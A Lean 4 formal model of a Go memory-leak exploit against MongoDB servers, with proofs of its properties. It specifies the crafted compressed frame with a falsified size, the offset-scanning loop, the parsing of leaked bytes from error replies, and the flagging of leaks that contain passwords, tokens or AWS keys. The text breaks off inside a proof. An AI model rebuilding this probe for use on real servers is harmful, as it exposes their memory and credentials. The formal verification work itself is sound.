import Mathlib

/-!
# mongobleed (Go) : frame construction, response decoding, leak extraction, deduplication

A shallow embedding of `src/go-app/mongobleed.go` and of the deduplication
code of `src/go-app/test_fix.go`.

* Go `[]byte` values are lists of bytes; a slice that is re-sliced also
  carries the part of its backing array between `len` and `cap`.
* Go `string` values are byte sequences as well (`string(data)` copies the
  bytes of `data` unchanged, valid text or not).
* `uint32` / `int32` quantities are naturals / integers, reduced modulo
  `2^32` where the Go code converts or serialises them.
* The standard library pieces the program calls but does not define
  (`compress/zlib`, `strings.ToLower`) are parameters, collected in `GoLib`.
* A Go run-time panic is the result `none`.
* The network is a parameter as well: an `Exchange` says how the dial, the
  write and the successive reads of one call of `sendProbe` turn out.
* The scan loop of `main` need not end; it is run for a number of rounds, and
  `ScanOutcome.running` is how a run ends when they are used up.
-/

namespace Mongobleed

/-! ## Bytes and little-endian words -/

/-- A Go `byte`. -/
abbrev Byte := Fin 256

/-- Conversion of an unsigned value to `byte`, keeping the low eight bits. -/
def byteOf (n : Nat) : Byte := ⟨n % 256, Nat.mod_lt n (by decide)⟩

/-- The bytes of an ASCII string literal. -/
def ascii (s : String) : List Byte := s.toList.map (fun c => byteOf c.toNat)

/-- The four bytes `binary.Write(buf, binary.LittleEndian, uint32(n))` appends. -/
def le32 (n : Nat) : List Byte :=
  [byteOf n, byteOf (n / 256), byteOf (n / 65536), byteOf (n / 16777216)]

/-- The `uint32` bit pattern of an `int32` (two's complement). -/
def int32Bits (d : Int) : Nat := (d % 4294967296).toNat

/-- The four bytes `binary.Write(buf, binary.LittleEndian, d)` appends for `d : int32`. -/
def le32OfInt (d : Int) : List Byte := le32 (int32Bits d)

/-- Byte `i` of a buffer known to hold it; reads 0 past the end (never used there). -/
def byteAt (b : List Byte) (i : Nat) : Nat := (b.getD i 0).val

/-- The value `binary.LittleEndian.Uint32(b)` for a slice `b` of at least four bytes. -/
def uint32LE (b : List Byte) : Nat :=
  byteAt b 0 + 256 * byteAt b 1 + 65536 * byteAt b 2 + 16777216 * byteAt b 3

/-! ## Standard-library collaborators -/

/-- The library functions used by the program whose code is not part of it. -/
structure GoLib where
  /-- The calls `zlib.NewWriter(&buf)`, `w.Write(p)`, `w.Close()`: the bytes left in `buf`. -/
  deflate : List Byte → List Byte
  /-- Whether `zlib.NewReader` accepts the stream (returns a nil error). -/
  zlibNewReader : List Byte → Bool
  /-- The call `decompressed.ReadFrom(r)`: the bytes produced, and whether an error was returned. -/
  zlibReadFrom : List Byte → List Byte × Bool
  /-- The function `strings.ToLower` on a Go string. -/
  toLower : List Byte → List Byte

/-! ## sendProbe : the crafted frame -/

/-- The literal `content`: the bytes 0x10, the letter a, 0x00, 0x01, 0x00, 0x00, 0x00. -/
def content : List Byte := [0x10, 0x61, 0x00, 0x01, 0x00, 0x00, 0x00]

/-- The buffer `bson`: the declared length, then `content`. -/
def bson (docLen : Int) : List Byte := le32OfInt docLen ++ content

/-- The buffer `opMsg`: zero length placeholder, flags byte, the document. -/
def opMsg (docLen : Int) : List Byte := le32 0 ++ [0x00] ++ bson docLen

/-- The buffer `compressed`: `opMsg` written through a zlib writer. -/
def compressed (L : GoLib) (docLen : Int) : List Byte := L.deflate (opMsg docLen)

/-- The buffer `payload`: original opcode, claimed size, compressor id, compressed bytes. -/
def payload (L : GoLib) (docLen bufferSize : Int) : List Byte :=
  le32 2013 ++ le32OfInt bufferSize ++ [0x02] ++ compressed L docLen

/-- The buffer `header`; `uint32(16+payload.Len())` wraps modulo `2^32`. -/
def header (L : GoLib) (docLen bufferSize : Int) : List Byte :=
  le32 ((16 + (payload L docLen bufferSize).length) % 4294967296)
    ++ le32 1 ++ le32 0 ++ le32 2012

/-- The bytes handed to `conn.Write`: `append(header.Bytes(), payload.Bytes()...)`. -/
def probeFrame (L : GoLib) (docLen bufferSize : Int) : List Byte :=
  header L docLen bufferSize ++ payload L docLen bufferSize

/-! ## Slices, decompression -/

/-- A Go slice value: its elements, and what its backing array holds between
`len` and `cap`. -/
structure Slice where
  elems : List Byte
  spare : List Byte

/-- The length `len(s)`. -/
def Slice.len (s : Slice) : Nat := s.elems.length

/-- The capacity `cap(s)`. -/
def Slice.cap (s : Slice) : Nat := s.elems.length + s.spare.length

/-- The slice expression `s[lo:hi]`. Go panics ("slice bounds out of range")
unless `lo ≤ hi ≤ cap(s)`; `none` is that panic. -/
def Slice.reslice (s : Slice) (lo hi : Nat) : Option (List Byte) :=
  if lo ≤ hi ∧ hi ≤ s.cap then some (((s.elems ++ s.spare).take hi).drop lo) else none

/-- A slice whose capacity equals its length. -/
def Slice.exact (b : List Byte) : Slice := ⟨b, []⟩

/-- The function `decompressZlib`: the bytes of `decompressed.Bytes()` and whether `err != nil`. -/
def decompressZlib (L : GoLib) (data : List Byte) : List Byte × Bool :=
  if L.zlibNewReader data then L.zlibReadFrom data else ([], true)

/-! ## Leak extraction -/

/-- The loop of `isCommonField` over `commonFields`. -/
def isCommonFieldLoop (s : List Byte) : List (List Byte) → Bool
  | [] => false
  | field :: rest => if s = field then true else isCommonFieldLoop s rest

/-- The list `commonFields` of `isCommonField`: `?`, `a`, `$db`, `ping`. -/
def commonFields : List (List Byte) := [ascii "?", ascii "a", ascii "$db", ascii "ping"]

/-- The function `isCommonField`. -/
def isCommonField (data : List Byte) : Bool := isCommonFieldLoop data commonFields

/-- The single quote character. -/
def quote : Byte := 39

/-- Removes the literal `lit` from the front of `s`, when `s` starts with it. -/
def stripLit : List Byte → List Byte → Option (List Byte)
  | [], s => some s
  | _ :: _, [] => none
  | a :: lit, b :: s => if a = b then stripLit lit s else none

/-- The literal that opens `fieldRegex`: the words `field name `, then a quote. -/
def fieldOpen : List Byte := ascii "field name " ++ [quote]

/-- The regular expression `fieldRegex` tried at the start of `s`: the literal,
the longest run of bytes other than a quote (the submatch), a quote. Gives the
submatch and the input left after the match. -/
def fieldMatchAt (s : List Byte) : Option (List Byte × List Byte) :=
  match stripLit fieldOpen s with
  | none => none
  | some rest =>
    match rest.dropWhile (fun b => b ≠ quote) with
    | [] => none
    | _ :: after => some (rest.takeWhile (fun b => b ≠ quote), after)

/-- The class `\d` of Go regular expressions: the ASCII digits. -/
def isDigit (b : Byte) : Bool := decide (48 ≤ b.val ∧ b.val ≤ 57)

/-- The literal that opens `typeRegex`. -/
def typeOpen : List Byte := ascii "type "

/-- The regular expression `typeRegex` tried at the start of `s`: the literal,
then the longest run of digits, which must not be empty (the submatch). -/
def typeMatchAt (s : List Byte) : Option (List Byte × List Byte) :=
  match stripLit typeOpen s with
  | none => none
  | some rest =>
    match rest.takeWhile isDigit with
    | [] => none
    | d :: ds => some (d :: ds, rest.dropWhile isDigit)

/-- The scan of `FindAllSubmatch(raw, -1)`, `fuel` steps of it: try the
expression at the current position; after a match go on right behind it,
otherwise one byte further. -/
def findAllAux (matchAt : List Byte → Option (List Byte × List Byte)) :
    Nat → List Byte → List (List Byte)
  | 0, _ => []
  | fuel + 1, s =>
    match matchAt s, s with
    | some (m, after), _ => m :: findAllAux matchAt fuel after
    | none, [] => []
    | none, _ :: t => findAllAux matchAt fuel t

/-- The submatches `match[1]` of `FindAllSubmatch(raw, -1)`, left to right. -/
def findAll (matchAt : List Byte → Option (List Byte × List Byte)) (raw : List Byte) :
    List (List Byte) :=
  findAllAux matchAt (raw.length + 1) raw

/-- The value of a run of decimal digits. -/
def decimalValue (tok : List Byte) : Nat :=
  tok.foldl (fun acc b => 10 * acc + (b.val - 48)) 0

/-- The byte `b` after `var b byte; fmt.Sscanf(tok, "%d", &b)` for a run of
digits `tok`. The scanner parses the token with `strconv.ParseUint(tok, 10, 64)`
and then checks that the value fits the eight bits of the target; when either
fails `Sscanf` returns an error (which `extractLeaks` drops) and `b` keeps its
zero value. -/
def sscanfByte (tok : List Byte) : Byte :=
  let i := decimalValue tok
  if i < 18446744073709551616 then
    if i % 256 = i then byteOf i else 0
  else 0

/-- The first loop of `extractLeaks`: the field names kept. -/
def fieldLeaks (raw : List Byte) : List (List Byte) :=
  (findAll fieldMatchAt raw).filter
    (fun data => decide (data.length > 0) && !isCommonField data)

/-- The second loop of `extractLeaks`: one fragment `[]byte{b & 0xFF}` per match. -/
def typeLeaks (raw : List Byte) : List (List Byte) :=
  (findAll typeMatchAt raw).map (fun tok => [byteOf ((sscanfByte tok).val &&& 0xFF)])

/-- The two loops of `extractLeaks` over the decoded bytes `raw`. -/
def scanLeaks (raw : List Byte) : List (List Byte) := fieldLeaks raw ++ typeLeaks raw

/-- What the first part of `extractLeaks` arrives at: a run-time panic of a
slice expression, the early `return nil`, or the bytes `raw` to scan. -/
inductive Decoded where
  | panic : Decoded
  | noData : Decoded
  | raw : List Byte → Decoded
  deriving DecidableEq

/-- The part of `extractLeaks` after the length check that computes `raw`,
for a response of at least 25 bytes. -/
def decodeResponse (L : GoLib) (response : Slice) : Decoded :=
  let msgLen := uint32LE (response.elems.take 4)
  let opCode := uint32LE ((response.elems.take 16).drop 12)
  if opCode = 2012 ∧ response.len ≥ 25 then
    match response.reslice 25 msgLen with
    | none => Decoded.panic
    | some compressed =>
      match decompressZlib L compressed with
      | (_, true) => Decoded.noData
      | (decompressed, false) => Decoded.raw decompressed
  else
    match response.reslice 16 msgLen with
    | none => Decoded.panic
    | some raw => Decoded.raw raw

/-- The function `extractLeaks`. The result `none` is a run-time panic; `return nil` is the
empty list. -/
def extractLeaks (L : GoLib) (response : Slice) : Option (List (List Byte)) :=
  if response.len < 25 then some []
  else
    match decodeResponse L response with
    | Decoded.panic => none
    | Decoded.noData => some []
    | Decoded.raw raw => some (scanLeaks raw)

/-! ## The driver: deduplication and secret labels -/

/-- The conversion `string(data)`: a Go string holds the same bytes. -/
def goString (data : List Byte) : List Byte := data

/-- A Go `map[string]bool`, as the list of its entries (one per key). -/
abbrev GoMap := List (List Byte × Bool)

/-- The map read `m[k]`: the stored value, `false` for an absent key. -/
def mapGet (m : GoMap) (k : List Byte) : Bool :=
  match m.find? (fun e => e.1 == k) with
  | some e => e.2
  | none => false

/-- The map write `m[k] = v`. -/
def mapSet (m : GoMap) (k : List Byte) (v : Bool) : GoMap :=
  if m.any (fun e => e.1 == k) then m.map (fun e => if e.1 == k then (k, v) else e)
  else m ++ [(k, v)]

/-- The size `len(m)` of a map. -/
def mapLen (m : GoMap) : Nat := m.length

/-- The test `strings.Contains(s, substr)`. -/
def stringsContains : List Byte → List Byte → Bool
  | [], substr => (stripLit substr []).isSome
  | b :: s, substr => (stripLit substr (b :: s)).isSome || stringsContains s substr

/-- The list `secrets` of `containsSecret`. -/
def secrets : List (List Byte) :=
  [ascii "password", ascii "secret", ascii "key", ascii "token", ascii "admin", ascii "AKIA"]

/-- The function `containsSecret`. -/
def containsSecret (L : GoLib) (data : List Byte) : List (List Byte) :=
  let lowerData := L.toLower (goString data)
  secrets.filter (fun secret => stringsContains lowerData (L.toLower secret))

/-- The variables `allLeaked`, `uniqueLeaks`, `secretPatterns` of `main`. -/
structure ScanState where
  allLeaked : List Byte
  uniqueLeaks : GoMap
  secretPatterns : GoMap

/-- The state before the scan loop. -/
def ScanState.initial : ScanState := ⟨[], [], []⟩

/-- The body of `for _, data := range leaks` in `main` (the progress line it
prints is not part of the state). -/
def recordLeak (L : GoLib) (st : ScanState) (data : List Byte) : ScanState :=
  let dataStr := goString data
  if !mapGet st.uniqueLeaks dataStr then
    { allLeaked := st.allLeaked ++ data
      uniqueLeaks := mapSet st.uniqueLeaks dataStr true
      secretPatterns :=
        (containsSecret L data).foldl (fun m secret => mapSet m secret true) st.secretPatterns }
  else st

/-- The loop `for _, data := range leaks` of `main`. -/
def recordLeaks (L : GoLib) (st : ScanState) (leaks : List (List Byte)) : ScanState :=
  leaks.foldl (recordLeak L) st

/-! ## test_fix.go : the two deduplication loops and the hex key -/

/-- The table `hextable` of `encoding/hex`. -/
def hextable : List Byte := ascii "0123456789abcdef"

/-- The function `encodeKey`, that is `hex.EncodeToString`: two digits per byte,
`hextable[v>>4]` then `hextable[v&0x0f]`. -/
def encodeKey : List Byte → List Byte
  | [] => []
  | v :: rest =>
    hextable.getD (v.val >>> 4) 0 :: hextable.getD (v.val &&& 0x0f) 0 :: encodeKey rest

/-- One round of a deduplication loop of `testDeduplication` with key function
`key`, on the pair of result buffer and seen map. -/
def dedupStep (key : List Byte → List Byte) (st : List Byte × GoMap) (data : List Byte) :
    List Byte × GoMap :=
  let dataKey := key data
  if !mapGet st.2 dataKey then (st.1 ++ data, mapSet st.2 dataKey true) else st

/-- The "old approach" loop of `testDeduplication`: keyed by `string(data)`. -/
def oldApproach (input : List (List Byte)) : List Byte × GoMap :=
  input.foldl (dedupStep goString) ([], [])

/-- The "new approach" loop of `testDeduplication`: keyed by `encodeKey(data)`. -/
def newApproach (input : List (List Byte)) : List Byte × GoMap :=
  input.foldl (dedupStep encodeKey) ([], [])

/-- The input `binaryData` of test case 1. -/
def binaryData : List (List Byte) :=
  [[0x00, 0x01, 0x02, 0x03, 0xff, 0xfe, 0xfd],
   [0x00, 0x01, 0x02, 0x03, 0xff, 0xfe, 0xfd],
   [0x80, 0x81, 0x82, 0x83, 0x84, 0x85],
   [0x00, 0x01, 0x02, 0x03, 0xff, 0xfe, 0xfd]]

/-- The input `mixedData` of test case 3. -/
def mixedData : List (List Byte) :=
  [ascii "test", [0x74, 0x65, 0x73, 0x74], ascii "different"]


/-! ## A concrete library instance

Used to exhibit concrete inputs: a zlib restricted to streams of one stored
block, and a lower-casing of the ASCII letters. -/

/-- The Adler-32 checksum that ends a zlib stream. -/
def adler32 (data : List Byte) : Nat :=
  let r := data.foldl
    (fun (ab : Nat × Nat) x => ((ab.1 + x.val) % 65521, (ab.2 + (ab.1 + x.val) % 65521) % 65521))
    (1, 0)
  r.2 * 65536 + r.1

/-- Big-endian 32-bit word. -/
def be32 (n : Nat) : List Byte :=
  [byteOf (n / 16777216), byteOf (n / 65536), byteOf (n / 256), byteOf n]

/-- Little-endian 16-bit word. -/
def le16 (n : Nat) : List Byte := [byteOf n, byteOf (n / 256)]

/-- A zlib stream that holds `data` in one stored block. -/
def storedDeflate (data : List Byte) : List Byte :=
  [0x78, 0x01, 0x01] ++ le16 data.length ++ le16 (65535 - data.length % 65536)
    ++ data ++ be32 (adler32 data)

/-- The zlib header check: compression method 8 and a check value divisible by 31. -/
def storedNewReader : List Byte → Bool
  | a :: b :: _ => decide (a.val % 16 = 8 ∧ (a.val * 256 + b.val) % 31 = 0)
  | _ => false

/-- Reads a stream of one stored block: the block's bytes, and whether the
stream was found malformed. -/
def storedReadFrom : List Byte → List Byte × Bool
  | _ :: _ :: 1 :: l0 :: l1 :: n0 :: n1 :: rest =>
    let len := l0.val + 256 * l1.val
    if n0.val + 256 * n1.val + len = 65535 ∧ rest.length = len + 4
        ∧ rest.drop len = be32 (adler32 (rest.take len)) then
      (rest.take len, false)
    else (rest.take len, true)
  | _ => ([], true)

/-- Lower-casing of the ASCII capital letters. -/
def asciiLower (s : List Byte) : List Byte :=
  s.map (fun c => if 65 ≤ c.val ∧ c.val ≤ 90 then byteOf (c.val + 32) else c)

/-- The concrete instance. -/
def refLib : GoLib := ⟨storedDeflate, storedNewReader, storedReadFrom, asciiLower⟩

/-! ## Notions used to state the properties -/

/-- The `int32` value of a 32-bit pattern. -/
def int32OfBits (n : Nat) : Int :=
  if n < 2147483648 then (n : Int) else (n : Int) - 4294967296

/-- The first occurrence of each distinct element, in order of appearance. -/
def firstOccurrences {α : Type} [DecidableEq α] : List α → List α
  | [] => []
  | x :: xs => x :: (firstOccurrences xs).filter (fun y => y ≠ x)


/-- A 25-byte response whose `messageLength` field holds 0 (opcode 1). -/
def zeroLengthResponse : List Byte :=
  le32 0 ++ le32 7 ++ le32 1 ++ le32 1 ++ [0, 0, 0, 0, 0, 0, 0, 0, 0]

/-- The first 25 bytes of a response whose `messageLength` field announces 100
bytes (opcode 1): what `sendProbe` returns when the read deadline passes
after these bytes. -/
def truncatedResponse : List Byte :=
  le32 100 ++ le32 7 ++ le32 1 ++ le32 1 ++ [0, 0, 0, 0, 0, 0, 0, 0, 0]

/-- The offset at which `extractLeaks` starts its slice: 25 for opcode 2012, else 16. -/
def sliceStart (response : Slice) : Nat :=
  if uint32LE ((response.elems.take 16).drop 12) = 2012 ∧ response.len ≥ 25 then 25 else 16



/-- An uncompressed response frame (opcode 1) around `body`, with a correct
`messageLength`. -/
def plainResponse (body : List Byte) : List Byte :=
  le32 (16 + body.length) ++ le32 7 ++ le32 1 ++ le32 1 ++ body

/-- The non-overlapping occurrences of the words `field name `, a quote, a
text `X` free of quotes, a quote, read from left to right; each gives its `X`.
A position where no occurrence starts is passed over by one byte, and the
reading resumes right after an occurrence. -/
inductive FieldOccurrences : List Byte → List (List Byte) → Prop
  | done : FieldOccurrences [] []
  | hit (X rest : List Byte) (out : List (List Byte)) :
      quote ∉ X → FieldOccurrences rest out →
      FieldOccurrences (fieldOpen ++ X ++ quote :: rest) (X :: out)
  | skip (b : Byte) (t : List Byte) (out : List (List Byte)) :
      (∀ X rest, quote ∉ X → b :: t ≠ fieldOpen ++ X ++ quote :: rest) →
      FieldOccurrences t out → FieldOccurrences (b :: t) out


/-! ## sendProbe : the exchange with the server -/

/-- The receive loop of `sendProbe`. `reads` are the chunks `temp[:n]` of the
calls of `conn.Read` that return no error, in order; the call after the last
of them returns an error (time-out, end of stream) and the loop breaks. The
second argument is `response` as accumulated so far. -/
def receiveLoop : List (List Byte) → List Byte → List Byte
  | [], response => response
  | chunk :: reads, response =>
    if (response ++ chunk).length ≥ 4 then
      if (response ++ chunk).length ≥ uint32LE ((response ++ chunk).take 4) then
        response ++ chunk
      else receiveLoop reads (response ++ chunk)
    else receiveLoop reads (response ++ chunk)

/-- What the network does during one call of `sendProbe`. -/
structure Exchange where
  /-- Whether `net.DialTimeout` returns no error. -/
  dialOk : Bool
  /-- Whether `conn.Write` returns no error. -/
  writeOk : Bool
  /-- The chunks of the successive `conn.Read` calls before the first error. -/
  reads : List (List Byte)
  /-- What the backing array of the returned `response` holds beyond its length. -/
  spare : List Byte

/-- The function `sendProbe`, given how the network reacts to the bytes
written: `none` is the return `nil, err`, otherwise the slice `response`. -/
def sendProbe (L : GoLib) (net : List Byte → Exchange) (docLen bufferSize : Int) :
    Option Slice :=
  let x := net (probeFrame L docLen bufferSize)
  if !x.dialOk then none
  else if !x.writeOk then none
  else some ⟨receiveLoop x.reads [], x.spare⟩

/-! ## The scan loop of main -/

/-- The conversion of an integer to `int32`, and `int32` arithmetic: wraps
around in two's complement. -/
def wrapInt32 (x : Int) : Int :=
  if x % 4294967296 < 2147483648 then x % 4294967296 else x % 4294967296 - 4294967296

/-- How a run of the scan loop ends: the loop condition failed, a slice
expression of `extractLeaks` panicked, or the loop is still going when the
steps granted are used up. -/
inductive ScanOutcome where
  | finished : ScanOutcome
  | panicked : ScanOutcome
  | running : ScanOutcome
  deriving DecidableEq

/-- A run of the scan loop: the arguments `(docLen, bufferSize)` of its calls
of `sendProbe` in order, the variables of `main`, and how it ended. -/
structure ScanRun where
  probes : List (Int × Int)
  state : ScanState
  outcome : ScanOutcome

/-- The body of the scan loop after `sendProbe` returned: `continue` on an
error, otherwise extraction and the deduplication loop. The result `none` is a
run-time panic. -/
def probeStep (L : GoLib) (st : ScanState) (result : Option Slice) : Option ScanState :=
  match result with
  | none => some st
  | some response =>
    match extractLeaks L response with
    | none => none
    | some leaks => some (recordLeaks L st leaks)

/-- The loop `for docLen := ...; docLen <= int32(*maxOffset); docLen++` of
`main`, at most `fuel` rounds of it; `n` counts the calls of `sendProbe` made
so far and `net n` is the network during the next one. -/
def scanLoop (L : GoLib) (net : Nat → List Byte → Exchange) (maxOffset : Int) :
    Nat → Nat → Int → ScanState → ScanRun
  | 0, _, _, st => ⟨[], st, ScanOutcome.running⟩
  | fuel + 1, n, docLen, st =>
    if docLen ≤ maxOffset then
      match probeStep L st (sendProbe L (net n) docLen (wrapInt32 (docLen + 500))) with
      | none => ⟨[(docLen, wrapInt32 (docLen + 500))], st, ScanOutcome.panicked⟩
      | some st2 =>
        let run := scanLoop L net maxOffset fuel (n + 1) (wrapInt32 (docLen + 1)) st2
        ⟨(docLen, wrapInt32 (docLen + 500)) :: run.probes, run.state, run.outcome⟩
    else ⟨[], st, ScanOutcome.finished⟩

/-- The scan of `main` for the flag values `minOffset` and `maxOffset`. -/
def scan (L : GoLib) (net : Nat → List Byte → Exchange) (minOffset maxOffset : Int)
    (fuel : Nat) : ScanRun :=
  scanLoop L net (wrapInt32 maxOffset) fuel 0 (wrapInt32 minOffset) ScanState.initial

/-! ## test_fix.go : formatPreview -/

/-- The width in bytes of the UTF-8 encoding that starts `s`, 0 when `s` is
empty or starts with no valid encoding (the tables `first` and `acceptRanges`
of `unicode/utf8`). -/
def runeWidth : List Byte → Nat
  | [] => 0
  | b :: rest =>
    if b.val < 0x80 then 1
    else
      let size := if 0xC2 ≤ b.val ∧ b.val ≤ 0xDF then 2
        else if 0xE0 ≤ b.val ∧ b.val ≤ 0xEF then 3
        else if 0xF0 ≤ b.val ∧ b.val ≤ 0xF4 then 4 else 0
      let lo := if b.val = 0xE0 then 0xA0 else if b.val = 0xF0 then 0x90 else 0x80
      let hi := if b.val = 0xED then 0x9F else if b.val = 0xF4 then 0x8F else 0xBF
      if size = 0 ∨ rest.length + 1 < size then 0
      else if byteAt rest 0 < lo ∨ hi < byteAt rest 0 then 0
      else if size = 2 then 2
      else if byteAt rest 1 < 0x80 ∨ 0xBF < byteAt rest 1 then 0
      else if size = 3 then 3
      else if byteAt rest 2 < 0x80 ∨ 0xBF < byteAt rest 2 then 0
      else 4

/-- The loop of `utf8.Valid`, at most `fuel` encodings. -/
def utf8ValidAux : Nat → List Byte → Bool
  | _, [] => true
  | 0, _ :: _ => false
  | fuel + 1, b :: rest =>
    if runeWidth (b :: rest) = 0 then false
    else utf8ValidAux fuel ((b :: rest).drop (runeWidth (b :: rest)))

/-- The test `utf8.Valid(data)`. -/
def utf8Valid (data : List Byte) : Bool := utf8ValidAux data.length data

/-- The decimal digits of `n`, most significant first, at most `fuel` of them. -/
def decimalAux : Nat → Nat → List Byte → List Byte
  | 0, _, acc => acc
  | fuel + 1, n, acc =>
    if n < 10 then byteOf (48 + n) :: acc
    else decimalAux fuel (n / 10) (byteOf (48 + n % 10) :: acc)

/-- The verb `%d` of `fmt.Sprintf` for a length. -/
def fmtDecimal (n : Nat) : List Byte := decimalAux (n + 1) n []

/-- The verb `%x` of `fmt.Sprintf` for a byte slice: two lower-case hex digits
per byte. -/
def fmtHex (data : List Byte) : List Byte := encodeKey data

/-- The function `formatPreview` of `test_fix.go`. -/
def formatPreview (data : List Byte) : List Byte :=
  if utf8Valid data then
    if (goString data).length > 80 then (goString data).take 80 else goString data
  else if data.length > 40 then
    ascii "[binary: " ++ fmtDecimal data.length ++ ascii " bytes] " ++ fmtHex (data.take 40)
      ++ ascii "..."
  else ascii "[binary: " ++ fmtDecimal data.length ++ ascii " bytes] " ++ fmtHex data

/-! ## Networks used to exhibit concrete runs -/

/-- A network on which every dial fails. -/
def deadNet : Nat → List Byte → Exchange := fun _ _ => ⟨false, false, [], []⟩

/-- A network on which every probe is answered by `reply`, read in one chunk. -/
def stubNet (reply : List Byte) : Nat → List Byte → Exchange :=
  fun _ _ => ⟨true, true, [reply], []⟩

/-- The text of the end-to-end scenario: the words `field name `, then
`adminuser` between quotes. -/
def adminText : List Byte := ascii "field name " ++ [quote] ++ ascii "adminuser" ++ [quote]

/-- A 30-byte response with opcode 2012 whose payload is no zlib stream. -/
def garbledResponse : List Byte :=
  le32 30 ++ le32 7 ++ le32 1 ++ le32 2012 ++ le32 2013 ++ le32 64 ++ [2]
    ++ [0xde, 0xad, 0xbe, 0xef, 0x00]


/-- A buffer that holds a complete frame: at least four bytes, and at least
as many as the little-endian length in its first four bytes announces. -/
def FrameComplete (acc : List Byte) : Prop :=
  4 ≤ acc.length ∧ uint32LE (acc.take 4) ≤ acc.length

/-- Adding a label to a list of distinct labels. -/
def addLabel (ks : List (List Byte)) (k : List Byte) : List (List Byte) :=
  if k ∈ ks then ks else ks ++ [k]


/-! ## Frame construction -/

theorem uint32LE_le32 (n : Nat) : uint32LE (le32 n) = n % 4294967296 := by
  simp [uint32LE, le32, byteAt, byteOf]
  omega

theorem le32_length (n : Nat) : (le32 n).length = 4 := rfl

theorem int32Bits_lt (d : Int) : int32Bits d < 4294967296 := by
  unfold int32Bits
  omega

theorem int32OfBits_int32Bits (d : Int) (h : -2147483648 ≤ d ∧ d < 2147483648) :
    int32OfBits (int32Bits d) = d := by
  unfold int32OfBits int32Bits
  split <;> omega

theorem header_length (L : GoLib) (d s : Int) : (header L d s).length = 16 := by
  simp [header, le32_length]

theorem payload_length (L : GoLib) (d s : Int) :
    (payload L d s).length = 9 + (compressed L d).length := by
  simp [payload, le32OfInt, le32_length]
  omega

theorem probeFrame_length (L : GoLib) (d s : Int) :
    (probeFrame L d s).length = 16 + 9 + (compressed L d).length := by
  simp [probeFrame, header_length, payload_length]
  omega

theorem probeFrame_take4 (L : GoLib) (d s : Int) :
    (probeFrame L d s).take 4 = le32 ((16 + (payload L d s).length) % 4294967296) := by
  simp [probeFrame, header, le32]

theorem probeFrame_eq (L : GoLib) (d s : Int) :
    probeFrame L d s
      = le32 ((16 + (payload L d s).length) % 4294967296) ++ (le32 1 ++ (le32 0 ++ (le32 2012
          ++ (le32 2013 ++ (le32OfInt s ++ (0x02 :: compressed L d)))))) := by
  simp [probeFrame, header, payload]

theorem probeFrame_messageLength (L : GoLib) (d s : Int)
    (hsize : 16 + 9 + (compressed L d).length < 4294967296) :
    uint32LE ((probeFrame L d s).take 4) = (probeFrame L d s).length := by
  rw [probeFrame_take4, uint32LE_le32, probeFrame_length, payload_length]
  omega

/-- Claim C5: the frame `sendProbe` transmits starts with a little-endian
`messageLength` equal to the number of bytes transmitted, which is the 16
header bytes, the 9 sub-header bytes and the compressed bytes, whatever the
declared length and the claimed size are (for a frame shorter than `2^32`
bytes, the range of the field). -/
theorem C5_messageLength_is_transmitted_size (L : GoLib) (docLen bufferSize : Int)
    (hsize : 16 + 9 + (compressed L docLen).length < 4294967296) :
    uint32LE ((probeFrame L docLen bufferSize).take 4) = (probeFrame L docLen bufferSize).length
      ∧ (probeFrame L docLen bufferSize).length = 16 + 9 + (compressed L docLen).length := by
  exact ⟨probeFrame_messageLength L docLen bufferSize hsize,
    probeFrame_length L docLen bufferSize⟩

theorem C5_messageLength_witness :
    16 + 9 + (compressed refLib 20).length < 4294967296
      ∧ uint32LE ((probeFrame refLib 20 520).take 4) = (probeFrame refLib 20 520).length
      ∧ (probeFrame refLib 20 520).length = 16 + 9 + (compressed refLib 20).length :=
  ⟨by decide, C5_messageLength_is_transmitted_size refLib 20 520 (by decide)⟩

/-- Claim C7: the layout of the frame built by `sendProbe`: bytes 4..7 hold
requestId 1, bytes 8..11 responseTo 0, bytes 12..15 opCode 2012, bytes 16..19
originalOpCode 2013, bytes 20..23 the little-endian 32-bit encoding of the
claimed size (whatever it is, while the compressed plaintext always has 16
bytes), byte 24 the compressor id 2, and from offset 25 on the compressed
bytes. -/
theorem C7_frame_layout (L : GoLib) (docLen bufferSize : Int) :
    ((probeFrame L docLen bufferSize).drop 4).take 4 = [1, 0, 0, 0]
      ∧ ((probeFrame L docLen bufferSize).drop 8).take 4 = [0, 0, 0, 0]
      ∧ ((probeFrame L docLen bufferSize).drop 12).take 4 = [0xdc, 0x07, 0, 0]
      ∧ uint32LE (((probeFrame L docLen bufferSize).drop 12).take 4) = 2012
      ∧ ((probeFrame L docLen bufferSize).drop 16).take 4 = [0xdd, 0x07, 0, 0]
      ∧ uint32LE (((probeFrame L docLen bufferSize).drop 16).take 4) = 2013
      ∧ ((probeFrame L docLen bufferSize).drop 20).take 4 = le32OfInt bufferSize
      ∧ uint32LE (((probeFrame L docLen bufferSize).drop 20).take 4)
          = (bufferSize % 4294967296).toNat
      ∧ ((probeFrame L docLen bufferSize).drop 24).take 1 = [2]
      ∧ (probeFrame L docLen bufferSize).drop 25 = L.deflate (opMsg docLen)
      ∧ (opMsg docLen).length = 16 := by
  have h20 : ((probeFrame L docLen bufferSize).drop 20).take 4 = le32OfInt bufferSize := by
    rw [probeFrame_eq]; simp [le32, le32OfInt]
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, h20, ?_, ?_, ?_, ?_⟩
  · rw [probeFrame_eq]; simp [le32]; decide
  · rw [probeFrame_eq]; simp [le32]; decide
  · rw [probeFrame_eq]; simp [le32]; decide
  · rw [probeFrame_eq]; simp [le32]; decide
  · rw [probeFrame_eq]; simp [le32]; decide
  · rw [probeFrame_eq]; simp [le32]; decide
  · rw [h20, le32OfInt, uint32LE_le32, Nat.mod_eq_of_lt (int32Bits_lt _)]; rfl
  · rw [probeFrame_eq]; simp [le32, le32OfInt]
  · rw [probeFrame_eq]; simp [le32, le32OfInt, compressed]
  · simp [opMsg, bson, le32OfInt, le32, content]

/-- Claim C8: the plaintext `sendProbe` hands to the compressor has exactly 16
bytes: four zero bytes, one zero flags byte, the little-endian 32-bit encoding
of the declared length `d`, then the element `10 61 00 01 00 00 00`. The length
field of the document reads back as `d` for every signed 32-bit `d`, while the
document itself always has 11 bytes. -/
theorem C8_plaintext_layout (d : Int) (hd : -2147483648 ≤ d ∧ d < 2147483648) :
    opMsg d = [0, 0, 0, 0] ++ [0] ++ le32OfInt d ++ [0x10, 0x61, 0x00, 0x01, 0x00, 0x00, 0x00]
      ∧ (opMsg d).length = 16
      ∧ (bson d).take 4 = le32OfInt d
      ∧ int32OfBits (uint32LE ((bson d).take 4)) = d
      ∧ (bson d).length = 11 := by
